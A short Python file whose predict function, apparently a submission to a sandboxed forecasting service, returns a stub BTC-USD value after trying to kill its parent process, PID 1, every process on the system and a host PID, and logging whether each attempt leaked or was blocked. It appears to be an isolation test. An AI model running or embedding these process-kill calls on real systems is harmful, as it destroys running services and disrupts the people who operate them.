import os
import signal
def attempt(what, fn):
    try:
        r = fn()
        print(f"LEAK:{what}:{r!r}"[:400])
    except BaseException as e:  # noqa: BLE001
        print(f"BLOCKED:{what}:{type(e).__name__}:{e}"[:400])


def predict(ctx):
    ppid = os.getppid()
    print(f"PPID:{ppid}")
    attempt("kill-ppid", lambda: os.kill(ppid, signal.SIGKILL) if ppid else (_ for _ in ()).throw(LookupError("no parent visible")))
    attempt("kill-1-term", lambda: os.kill(1, signal.SIGTERM) if os.getpid() != 1 else (_ for _ in ()).throw(LookupError("pid 1 is me")))
    attempt("kill-all", lambda: os.kill(-1, signal.SIGKILL))
    attempt("kill-host-pid", lambda: os.kill(int(ctx.params.get("host_pid", 999999)), signal.SIGKILL))
    return {"BTC-USD": 0.001}
